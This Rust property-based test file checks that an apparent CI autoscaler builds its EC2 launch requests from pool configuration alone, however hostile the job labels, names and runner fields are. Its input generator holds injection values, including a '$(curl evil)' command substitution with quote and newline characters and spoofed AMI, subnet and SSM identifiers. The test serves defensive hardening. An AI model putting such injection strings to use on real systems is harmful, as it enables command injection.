//! Regardless of a job's contents, the request to EC2 only has the pool's configuration.

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::{plan, view};
use crate::ec2::Override;
use crate::job::Job;
use crate::job::labels::{LabelRows, Labels};
use crate::pool::{Allocation, Disk, Image, MarketPolicy, Pool, Requirements};
use crate::testkit::{With, job, pool, searched, timings};

/// EC2's keywords, shell syntax, and arbitrary text.
fn word() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("ec2-instance-type:p5.48xlarge".to_owned()),
        Just("subnet-evil".to_owned()),
        Just("ami-evil".to_owned()),
        Just("resolve:ssm:/evil".to_owned()),
        Just("muster:stack=other".to_owned()),
        Just("$(curl evil)\"'\n".to_owned()),
        ".{0,40}",
    ]
}

/// A job in which every text is controlled by an attacker.
fn hostile(n: u32) -> impl Strategy<Value = Job> {
    (prop::collection::vec(word(), 0..6), word(), word()).prop_map(move |(labels, name, runner)| {
        job(n).with(|job| {
            job.last_event.labels = Labels::new(labels.iter().map(String::as_str).chain(["linux"]));
            job.last_event.name = name.into();
            job.last_event.runner = Some(runner);
        })
    })
}

fn jobs() -> impl Strategy<Value = Vec<Job>> {
    (1..60_u32).prop_flat_map(|count| (1..=count).map(hostile).collect::<Vec<_>>())
}

fn pools() -> impl Strategy<Value = Pool> {
    let markets = [MarketPolicy::Spot, MarketPolicy::OnDemand, MarketPolicy::SpotThenOnDemand];
    let allocations = [None, Some(Allocation::LowestPrice), Some(Allocation::Prioritized)];
    (0..3_usize, 0..3_usize, any::<bool>(), any::<bool>()).prop_map(
        move |(market, allocation, rich, typed)| {
            pool().with(|pool| {
                pool.max = 1000;
                pool.market = markets[market];
                pool.allocation = allocations[allocation];
                if rich {
                    pool.image = Some(Image::Ssm("/aws/service/x".to_owned()));
                    pool.max_price = Some("0.05".to_owned());
                    pool.disk = Some(Disk {
                        device: "/dev/xvda".to_owned(),
                        size_gib: 40,
                        iops: None,
                        throughput_mib: None,
                    });
                    pool.tags = [("team", "ci"), ("muster:stack", "other"), ("Name", "mine")]
                        .map(|(key, value)| (key.to_owned(), value.to_owned()))
                        .into();
                    pool.name_prefix = Some("ci".parse().expect("valid"));
                }
                if !typed {
                    pool.instance_types.clear();
                    pool.requirements = Some(Requirements {
                        vcpus_min: 2,
                        vcpus_max: None,
                        memory_mib_min: 4096,
                        memory_mib_max: None,
                    });
                }
            })
        },
    )
}

proptest! {
    #![proptest_config(searched(400))]

    #[test]
    fn a_launch_is_made_of_its_pool_alone(pool in pools(), demand in jobs()) {
        let timings = timings();
        // Its runners have all requested labels: a job that no pool serves causes no launch.
        let asked_for = demand.iter().flat_map(|job| job.last_event.labels.iter());
        let pool = Pool { labels: LabelRows::one(Labels::new(asked_for)), ..pool };
        let plain: Vec<Job> = (1..=u32::try_from(demand.len()).expect("few")).map(job).collect();
        let asked = plan(view(&pool, &timings, demand));
        let expected = plan(view(&pool, &timings, plain));
        let requests = |plan: &crate::launch::plan::Plan| {
            plan.launches.iter().map(|one| one.launch.request.clone()).collect::<Vec<_>>()
        };
        prop_assert!(!asked.launches.is_empty());
        prop_assert_eq!(requests(&asked), requests(&expected));
        let allowed: BTreeSet<Override> = pool.places().into_iter().collect();
        for one in &asked.launches {
            let request = &one.launch.request;
            prop_assert!(request.overrides.iter().all(|place| allowed.contains(place)));
            prop_assert_eq!(&request.template_id, &pool.launch_template_id);
            prop_assert_eq!(&request.image, &pool.image);
            prop_assert_eq!(&request.disk, &pool.disk);
            prop_assert_eq!(&request.requirements, &pool.requirements);
            prop_assert!(request.max_price.is_none() || request.max_price == pool.max_price);
            let tag = |key: &str| {
                let all: Vec<&str> = request
                    .tags
                    .iter()
                    .filter(|(name, _)| name == key)
                    .map(|(_, value)| value.as_str())
                    .collect();
                all.join(" and ")
            };
            // Each tag once, whatever the pool's tags are.
            prop_assert_eq!(tag("muster:stack"), "prod");
            prop_assert_eq!(tag("muster:launch"), one.launch.id.as_str());
            prop_assert_eq!(tag("Name"), one.launch.id.as_str());
            prop_assert_eq!(tag("team"), if pool.tags.is_empty() { "" } else { "ci" });
        }
    }
}

#[test]
fn pools_that_share_a_prefix_never_share_a_launch() {
    let timings = timings();
    let id = |name: &str| {
        let pool = pool().with(|pool| {
            pool.name = name.parse().expect("valid");
            pool.name_prefix = Some("ci".parse().expect("valid"));
        });
        plan(view(&pool, &timings, vec![job(1)])).launches[0].launch.id.as_str().to_owned()
    };
    assert!(id("linux").starts_with("ci-"));
    assert_ne!(id("linux"), id("windows"));
    assert_eq!(id("linux"), id("linux"));
}
